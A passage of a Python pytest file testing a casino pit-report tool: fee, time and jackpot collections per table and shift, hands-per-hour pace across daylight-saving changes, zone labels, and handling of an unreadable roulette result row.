        return e(self.table, ended, "result", result, n)


@pytest.fixture
def poker(pg_url: str) -> str:
    rows = ArchiveRows(pg_url)
    for table, game in (("hld-01", "holdem"), ("drw-01", "draw"), ("pan-01", "panguingue"),
                        ("mex-01", "mexican_stud"), ("rou-01", "roulette")):
        rows.table(table, game)
    h = Hands(rows, "hld-01")
    h.table_event(pdt("10-31T21:00"), "open")
    h.hand(pdt("10-31T21:10"), pdt("10-31T21:11"), pdt("10-31T21:20"), holdem(6))
    h.hand(pdt("10-31T21:21"), pdt("10-31T21:22"), pdt("10-31T21:25"), holdem(6), void="misdeal")
    h.hand(pdt("10-31T21:26"), pdt("10-31T21:27"), pdt("10-31T21:40"), holdem(6))
    h.hand(pdt("10-31T21:41"), pdt("10-31T21:50"), pdt("10-31T22:05"), holdem(4))
    fifth = h.hand(pdt("10-31T22:06"), pdt("10-31T22:08"), pdt("10-31T22:20"), holdem(5))
    assert rows.redeliver(fifth) == 0                    # a QoS 1 duplicate: the archive holds (table, seq) once
    h.hand(pdt("10-31T22:21"), pdt("10-31T23:30"), pdt("10-31T23:45"), holdem(7))
    h.hand(pdt("10-31T23:46"), pdt("11-01T01:40"), pdt("11-01T01:55"), holdem(6))
    h.hand(pdt("11-01T01:56"), pdt("11-01T01:58"), pst("11-01T01:10"), holdem(6))
    h.hand(pst("11-01T01:11"), pst("11-01T01:12"), pst("11-01T01:30"), holdem(4))
    h.table_event(pst("11-01T01:45"), "closed")
    d = Hands(rows, "drw-01")
    d.table_event(pdt("10-31T21:30"), "open")
    d.hand(pdt("10-31T21:35"), pdt("10-31T21:36"), pdt("10-31T21:50"), draw(seats(6)))
    d.hand(pdt("10-31T21:51"), pdt("10-31T21:52"), pdt("10-31T21:55"), draw([]),
           void="misdeal: the first card dealt was turned over; the hand is redealt with the same button")
    d.hand(pdt("10-31T21:56"), pdt("10-31T21:57"), pdt("10-31T22:10"), draw([], redeal_of=2))
    d.hand(pdt("10-31T22:11"), pdt("10-31T22:12"), pdt("10-31T22:15"), draw(seats(6)),
           void="NO POT: an irregular deck")
    d.hand(pdt("10-31T22:27"), pdt("10-31T22:28"), pdt("10-31T22:45"), draw([]))
    d.hand(pdt("10-31T22:46"), pdt("10-31T22:47"), pdt("10-31T23:00"), draw(seats(5), players=5))
    d.table_event(pdt("10-31T23:05"), "closed")
    p = Hands(rows, "pan-01")
    p.table_event(pst("11-01T05:00"), "open")
    p.hand(pst("11-01T05:10"), pst("11-01T05:15"), pst("11-01T05:40"), pan())
    p.hand(pst("11-01T05:41"), pst("11-01T05:45"), pst("11-01T05:50"), pan(), void="misdeal")
    p.hand(pst("11-01T05:51"), pst("11-01T05:55"), pst("11-01T06:30"), pan())
    m = Hands(rows, "mex-01")
    m.hand(pdt("10-31T20:00"), pdt("10-31T20:01"), pdt("10-31T20:10"), mexican(6))
    m.hand(pdt("10-31T20:11"), pdt("10-31T20:12"), pdt("10-31T20:20"), mexican(4))
    rows.event("rou-01", pdt("10-31T20:30"), "result", {"wagers": [{"wager": "red", "outcome": "win", "pays": "1 to 1"}]}, 1)
    rows.event("rou-01", pdt("10-31T20:40"), "result", {"wagers": [BAD_WAGER]}, 2)
    rows.close()
    return pg_url


def la(text: str) -> datetime:
    """``2026-10-31T21:11-07:00`` in Los Angeles (the offset picks the hour of the two)."""
    return datetime.fromisoformat(text).astimezone(LA)


def test_collections_per_table_and_shift_count_each_hand_once(poker: str) -> None:
    """Hold'em's pot fee and jackpot come from each played hand's result: the misdealt hand 2
    collects none (its redeal, hand 3, does), hand 5's duplicate is one row. Draw's time is taken
    as hands start, voided ones too (hand 4, NO POT: the pot is refunded, the time is not), and a
    redeal takes none again. Panguingue's ante is the players' (the Tops), not counted."""
    got = {(b.table, b.day.isoformat(), b.shift.name):
           (b.hands, b.voids, b.fees, b.fee_hands, b.time, b.time_hands, b.periods, b.jackpot, b.jackpot_hands,
            b.total) for b in report(poker, zone=LA).collections}
    assert got == {
        # hand 1 ($30: six seats' half hours), hands 2 and 3 nothing due; hand 2 voided
        ("drw-01", "2026-10-31", "swing"): (1, 1, 0, 0, 3000, 1, 6, 0, 0, 3000),
        # hand 4 voided ($30 again, half an hour on), hand 3 (22:10), 5 (nothing due), 6 ($25: five seats)
        ("drw-01", "2026-10-31", "grave"): (3, 1, 0, 0, 5500, 2, 11, 0, 0, 5500),
        # hands 1 and 3 at 6 players: $3 and $1 each; hand 2 voided
        ("hld-01", "2026-10-31", "swing"): (2, 1, 600, 2, 0, 0, 0, 200, 2, 800),
        # hands 4 (4 players $1), 5 (5: $3 + $1), 6 (7: $4 + $1), 7, 8 (6: $3 + $1), 9 (4: $1)
        ("hld-01", "2026-10-31", "grave"): (6, 0, 1500, 6, 0, 0, 0, 400, 4, 1900),
        # 6 players $6 and the jackpot $1; 4 players $4, no jackpot
        ("mex-01", "2026-10-31", "swing"): (2, 0, 1000, 2, 0, 0, 0, 100, 1, 1100),
        # hand 1 (5 x $3); hand 2 voided; hand 3 ends at 06:30, the next day's day shift
        ("pan-01", "2026-10-31", "grave"): (1, 1, 1500, 1, 0, 0, 0, 0, 0, 1500),
        ("pan-01", "2026-11-01", "day"): (1, 0, 1500, 1, 0, 0, 0, 0, 0, 1500),
    }


def test_hands_per_hour_is_a_rate_over_the_time_open_and_dealing(poker: str) -> None:
    """A stretch runs from a deal to the end of the last hand dealt within 15 minutes of the one
    before, never across a closing, and is cut at the shifts' boundaries; the hours are real
    hours, so the night the clocks go back, 01:40 PDT to 01:30 PST is 50 minutes."""
    got = [(b.table, b.shift.name, b.dealing_from, b.dealing_to, round(b.hours, 4), b.hands, b.voids,
            None if b.hands_per_hour is None else round(b.hands_per_hour, 2)) for b in report(poker, zone=LA).pace]
    assert got == [
        # 21:36 to 23:00 in one stretch (no wait over 15 minutes): 24 minutes in swing, 60 in grave
        ("drw-01", "swing", la(pdt("10-31T21:36")), la(pdt("10-31T22:00")), 0.4, 1, 1, 2.5),
        ("drw-01", "grave", la(pdt("10-31T22:00")), la(pdt("10-31T23:00")), 1.0, 3, 1, 3.0),
        # 21:11 to 22:20 (49 minutes in swing, 20 in grave); hand 6 waited 70 minutes for players:
        # 23:30-23:45 (15); hand 7 after a break: 01:40 PDT to 01:30 PST (50), then the table closed
        ("hld-01", "swing", la(pdt("10-31T21:11")), la(pdt("10-31T22:00")), 0.8167, 2, 1, 2.45),
        ("hld-01", "grave", la(pdt("10-31T22:00")), la(pst("11-01T01:30")), 1.4167, 6, 0, 4.24),
        # its opening not archived: from its first deal, 20:01 to 20:20
        ("mex-01", "swing", la(pdt("10-31T20:01")), la(pdt("10-31T20:20")), 0.3167, 2, 0, 6.32),
        # 05:15 to 06:30 across the shift change: 45 minutes, then 30
        ("pan-01", "grave", la(pst("11-01T05:15")), la(pst("11-01T06:00")), 0.75, 1, 1, 1.33),
        ("pan-01", "day", la(pst("11-01T06:00")), la(pst("11-01T06:30")), 0.5, 1, 0, 2.0),
        # one result, no deal and no bets open archived: a hand, and no time to rate it over
        ("rou-01", "swing", la(pdt("10-31T20:30")), la(pdt("10-31T20:30")), 0.0, 1, 0, None),
    ]


def test_an_hour_that_happens_twice_is_two_clock_hours_named_apart(poker: str) -> None:
    r = report(poker, zone=LA, tables=("hld-01",))
    assert [(h.hour.isoformat(), h.hands, h.voids) for h in r.hands] == [
        ("2026-10-31T21:00:00-07:00", 2, 1), ("2026-10-31T22:00:00-07:00", 2, 0),
        ("2026-10-31T23:00:00-07:00", 1, 0),
        ("2026-11-01T01:00:00-07:00", 1, 0),     # hand 7, 01:55 PDT
        ("2026-11-01T01:00:00-08:00", 2, 0),     # hands 8 and 9, 01:10 and 01:30 PST
    ]
    out = io.StringIO()
    write_text(r, ("hands",), out)
    lines = out.getvalue().splitlines()
    assert lines[0] == ("Pit report from the first event to the last event (tables' clocks, shown in "
                        "America/Los_Angeles: PST = UTC-08:00, PDT = UTC-07:00)")
    at = lines.index("TABLE   HOUR                  HANDS  VOIDS")
    assert lines[at + 1:at + 6] == ["hld-01  2026-10-31 21:00 PDT      2      1",
                                    "        2026-10-31 22:00 PDT      2      0",
                                    "        2026-10-31 23:00 PDT      1      0",
                                    "        2026-11-01 01:00 PDT      1      0",
                                    "        2026-11-01 01:00 PST      2      0"]
    assert [(u.table, u.seq) for u in r.unreadable] == []      # only hld-01 was read


def test_an_hour_that_does_not_happen_is_no_time(pg_url: str) -> None:
    """8 March 2026 in Los Angeles: 02:00 PST is 03:00 PDT. A hand dealt at 01:50 PST and one
    dealt at 03:05 PDT are 15 minutes apart, one stretch of 30 minutes, not 90; there is no
    02:00 hour; the grave shift of 7 March runs 7 hours."""
    rows = ArchiveRows(pg_url)
    rows.table("hld-02", "holdem")
    h = Hands(rows, "hld-02")
    h.hand(pst("03-08T01:49"), pst("03-08T01:50"), pst("03-08T01:58"), holdem(6))
    h.hand(pst("03-08T01:59"), pdt("03-08T03:05"), pdt("03-08T03:20"), holdem(6))
    rows.close()
    r = report(pg_url, zone=LA)
    assert [(h.hour.isoformat(), h.hands) for h in r.hands] == [("2026-03-08T01:00:00-08:00", 1),
                                                                 ("2026-03-08T03:00:00-07:00", 1)]
    (b,) = r.pace
    assert (b.day.isoformat(), b.shift.name, b.hours, b.hands, b.hands_per_hour) == ("2026-03-07", "grave", 0.5, 2, 4.0)
    start, end = SHIFTS.bounds(b.day, b.shift, LA)
    assert end - start == timedelta(hours=7)
    assert SHIFTS.bounds(date(2026, 10, 31), b.shift, LA)[1] - SHIFTS.bounds(date(2026, 10, 31), b.shift, LA)[0] \
        == timedelta(hours=9)


def test_a_row_the_report_cannot_read_is_named_and_the_rest_counted(poker: str) -> None:
    """Issue 27, item 1: a game this pit does not know published an outcome that is no outcome."""
    r = report(poker, zone=LA)
    assert [(u.table, u.seq, u.kind, u.time, u.why) for u in r.unreadable] == [
        ("rou-01", 2, "result", la(pdt("10-31T20:40")),
         'wager "main" has outcome {"win": 1}, not win, lose or push')]
    (rou,) = [b for b in r.results if b.table == "rou-01"]
    assert (rou.hands, dict(rou.outcomes)) == (1, {("red", "win", "1 to 1"): 1})   # the other row, counted


def test_collections_as_text_and_csv_in_dollars_with_a_total(poker: str) -> None:
    r = report(poker, zone=LA)
    out = io.StringIO()
    write_text(r, ("collections",), out)
    lines = out.getvalue().splitlines()
    at = lines.index("COLLECTIONS BY TABLE AND SHIFT")
    assert lines[at + 2:] == [
        "TABLE   GAME          SHIFT_DATE  SHIFT  HANDS  VOIDS    FEES  FEE_HANDS    TIME  TIME_HANDS  PERIODS  "
        "JACKPOT  JACKPOT_HANDS    TOTAL  GAPS",
        "drw-01  draw          2026-10-31  swing      1      1   $0.00          0  $30.00           1        6    "
        "$0.00              0   $30.00     0",
        "                      2026-10-31  grave      3      1   $0.00          0  $55.00           2       11    "
        "$0.00              0   $55.00     0",
        "hld-01  holdem        2026-10-31  swing      2      1   $6.00          2   $0.00           0        0    "
        "$2.00              2    $8.00     0",
        "                      2026-10-31  grave      6      0  $15.00          6   $0.00           0        0    "
        "$4.00              4   $19.00     0",
        "mex-01  mexican_stud  2026-10-31  swing      2      0  $10.00          2   $0.00           0        0    "
        "$1.00              1   $11.00     0",
        "pan-01  panguingue    2026-10-31  grave      1      1  $15.00          1   $0.00           0        0    "
        "$0.00              0   $15.00     0",
        "                      2026-11-01  day        1      0  $15.00          1   $0.00           0        0    "
        "$0.00              0   $15.00     0",
        "TOTAL                                       16      4  $61.00         12  $85.00           3       17    "
        "$7.00              7  $153.00     0",
        "",
        "ROWS THE REPORT COULD NOT READ",
        "(left out of every count above: the archive holds them, the report does not know their shape)",
        "TABLE   SEQ  KIND    TIME                     WHY",
        'rou-01    2  result  2026-10-31 20:40:00 PDT  wager "main" has outcome {"win": 1}, not win, lose or push',
    ]
    out = io.StringIO()
    assert write_csv(r, "collections", out) == 8
    got = list(csv.reader(io.StringIO(out.getvalue())))
    assert got[0] == ["table", "game", "shift_date", "shift", "hands", "voids", "fees", "fee_hands", "time",
                      "time_hands", "periods", "jackpot", "jackpot_hands", "total", "gaps"]
    assert got[3] == ["hld-01", "holdem", "2026-10-31", "swing", "2", "1", "6.00", "2", "0.00", "0", "0", "2.00",
                      "2", "8.00", "0"]
    assert got[-1] == ["TOTAL", "", "", "", "16", "4", "61.00", "12", "85.00", "3", "17", "7.00", "7", "153.00", "0"]


def test_pace_as_csv_keeps_iso_times_and_names_the_zone(poker: str) -> None:
    out = io.StringIO()
    write_csv(report(poker, zone=LA, tables=("hld-01",)), "pace", out)
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["table", "game", "shift_date", "shift", "dealing_from", "dealing_to", "hours_dealing", "hands", "voids",
         "hands_per_hour", "gaps", "zone"],
        ["hld-01", "holdem", "2026-10-31", "swing", "2026-10-31 21:11-07:00", "2026-10-31 22:00-07:00", "0.82", "2",
         "1", "2.4", "0", "America/Los_Angeles"],
        ["hld-01", "holdem", "2026-10-31", "grave", "2026-10-31 22:00-07:00", "2026-11-01 01:30-08:00", "1.42", "6",
         "0", "4.2", "0", "America/Los_Angeles"],
    ]


def test_pace_on_a_site_without_deals_archived_starts_each_hand_at_its_bets(site: str) -> None:
    """The baccarat site has round_start events but no transitions: a hand starts when its bets
    opened. bac-01: 13:02-13:10, then 13:30-13:40 (20 minutes after: a new stretch), 13:56-14:05
    cut at 14:00 (4 minutes in the day shift, 5 in swing); round 4 voided without a deal adds
    nothing, so round 5 (14:22-14:30) comes 17 minutes after 14:05: a new stretch; round 6's bets
    are in the gap, so it starts at its result, 15:10, and round 7 (bets 15:12) runs to 15:40."""
    got = [(b.table, b.shift.name, round(b.dealing.total_seconds() / 60), b.hands, b.gaps)
           for b in report(site).pace if b.table == "bac-01"]
    assert got == [("bac-01", "day", 22, 2, 0), ("bac-01", "swing", 43, 4, 1)]


def test_the_command_reads_on_past_a_row_it_cannot_read(pg_url: str, tmp_path: Path) -> None:
    """Exactly the row of issue 27: the report names it (table, seq, why) and exits 0 with the rest."""
    rows = ArchiveRows(pg_url)
    rows.table("rou-09", "roulette")
    rows.event("rou-09", t("03-01T20:00"), "result", {"wagers": [{"wager": "red", "outcome": "lose"}]}, 1)
    rows.event("rou-09", t("03-01T20:05"), "result", {"wagers": [BAD_WAGER]}, 2)
    rows.close()
    proc = run("--db", pg_url, "--tz", "Europe/Berlin", "--only", "results")
    assert proc.returncode == 0, proc.stderr
    assert "rou-09  roulette  2024-03-01  swing      1      0  red    lose                1" in proc.stdout
    assert proc.stdout.splitlines()[-1] == ('rou-09    2  result  2024-03-01 20:05:00 CET  wager "main" has '
                                            'outcome {"win": 1}, not win, lose or push')
    proc = run("--db", pg_url, "--tz", "Europe/Berlin", "--format", "csv", "--only", "results")
    assert proc.returncode == 0
    assert proc.stdout.splitlines()[1:] == ["rou-09,roulette,2024-03-01,swing,1,0,red,lose,,1"]
    assert proc.stderr == ('UNREADABLE: rou-09 seq 2 (result, 2024-03-01 20:05:00+01:00): wager "main" has outcome '
                           '{"win": 1}, not win, lose or push; left out of every count\n')


def test_the_command_on_the_poker_site(poker: str, tmp_path: Path) -> None:
    proc = run("--db", poker, "--tz", "America/Los_Angeles", "--since", "2026-10-31T22:00", "--until",
               "2026-11-01T06:00", "--only", "pace", "--only", "collections")
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.splitlines()
    assert lines[0] == ("Pit report from 2026-10-31 22:00:00 PDT to 2026-11-01 06:00:00 PST (tables' clocks, shown "
                        "in America/Los_Angeles: PST = UTC-08:00, PDT = UTC-07:00)")
    # the grave shift alone: pan-01's hand 3 ends at 06:30, after the period
    assert lines[-1].split() == ["TOTAL", "10", "2", "$30.00", "7", "$55.00", "2", "11", "$4.00", "4", "$89.00",
                                 "0"]
    # the shift's hours as in the whole night's report: the hands dealt before 22:00 are read for their time
    assert ("hld-01  holdem      2026-10-31  grave  2026-10-31 22:00 PDT  2026-11-01 01:30 PST           1.42      6"
            in proc.stdout)
    assert ("pan-01  panguingue  2026-10-31  grave  2026-11-01 05:15 PST  2026-11-01 06:00 PST           0.75      1"
            in proc.stdout)
    out = tmp_path / "night"
    proc = run("--db", poker, "--tz", "America/Los_Angeles", "--format", "csv", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    assert f"{out}/collections.csv: 8 rows" in proc.stdout.splitlines()
    assert proc.stderr.startswith("UNREADABLE: rou-01 seq 2 (result, 2026-10-31 20:40:00-07:00)")
    with (out / "hands.csv").open(newline="") as f:
        hours = [(h["table"], h["hour"], h["zone"]) for h in csv.DictReader(f) if h["table"] == "hld-01"]
    assert hours[-2:] == [("hld-01", "2026-11-01 01:00-07:00", "America/Los_Angeles"),
                          ("hld-01", "2026-11-01 01:00-08:00", "America/Los_Angeles")]


@pytest.mark.parametrize(("value", "error"), [
    ("2026-11-01T01:30", "--since '2026-11-01T01:30': that time happens twice in America/Los_Angeles (the clocks "
                         "went back): give its offset, 2026-11-01T01:30-07:00 (PDT) or 2026-11-01T01:30-08:00 (PST)"),
    ("2026-03-08T02:30", "--since '2026-03-08T02:30': that time does not happen in America/Los_Angeles (the clocks "
                         "went forward from PST to PDT then): give another time or an offset"),
])
def test_a_local_time_the_clocks_make_ambiguous_is_refused(value: str, error: str) -> None:
    proc = run("--db", "postgresql://pit@127.0.0.1:1/pit", "--tz", "America/Los_Angeles", "--since", value)
    assert (proc.returncode, proc.stderr) == (2, f"tablectl report: {error}\n")


def test_a_longer_idle_limit_counts_a_wait_for_players_as_dealing(poker: str) -> None:
    """With --idle 90, hand 6's 70-minute wait (22:20 to its deal at 23:30) is dealing: hld-01's
    grave shift deals 22:00-23:45 and 01:40 PDT-01:30 PST (the wait before hand 7, 115
    minutes, is still a break)."""
    import psycopg

    with psycopg.connect(poker) as conn:
        r = build(conn, Period(), LA, "America/Los_Angeles", SHIFTS, ("hld-01",), idle=timedelta(minutes=90))
    grave = next(b for b in r.pace if b.shift.name == "grave")
    assert grave.dealing == timedelta(minutes=105 + 50)


@pytest.mark.parametrize(("zone", "when", "label"), [
    ("America/Los_Angeles", "2026-11-01T01:30-07:00", "PDT"),
    ("America/Los_Angeles", "2026-11-01T01:30-08:00", "PST"),
    ("Europe/London", "2026-01-15T12:00+00:00", "GMT"),
    ("America/Sao_Paulo", "2026-11-27T03:00-03:00", "UTC-03:00"),   # the zone's own name is "-03"
    ("Asia/Kolkata", "2026-11-27T03:00+05:30", "IST"),
    ("UTC", "2026-11-27T03:00+00:00", "UTC"),
])
def test_a_time_is_named_by_its_zone_never_by_a_bare_offset(zone: str, when: str, label: str) -> None:
    assert zone_label(datetime.fromisoformat(when).astimezone(ZoneInfo(zone))) == label


def test_an_abbreviation_that_stood_for_two_offsets_prints_every_time_with_its_offset() -> None:
    """Moscow Time was UTC+04:00 until 26 October 2014 and UTC+03:00 after, both "MSK": the
    abbreviation alone would not tell the two hours apart, so each time carries its offset."""
    moscow = ZoneInfo("Europe/Moscow")
    r = Report(Period(), moscow, "Europe/Moscow", SHIFTS,
               hands=[HourRow("bac-01", datetime(2014, 10, 20, 1, tzinfo=moscow), 1, 0),
                      HourRow("bac-01", datetime(2014, 10, 27, 1, tzinfo=moscow), 2, 0)])
    out = io.StringIO()
    write_text(r, ("hands",), out)
    lines = out.getvalue().splitlines()
    assert lines[0] == ("Pit report from the first event to the last event (tables' clocks, shown in "
                        "Europe/Moscow: MSK = UTC+03:00, MSK = UTC+04:00)")
    assert lines[-2:] == ["bac-01  2014-10-20 01:00 MSK (UTC+04:00)      1      0",
                          "        2014-10-27 01:00 MSK (UTC+03:00)      2      0"]
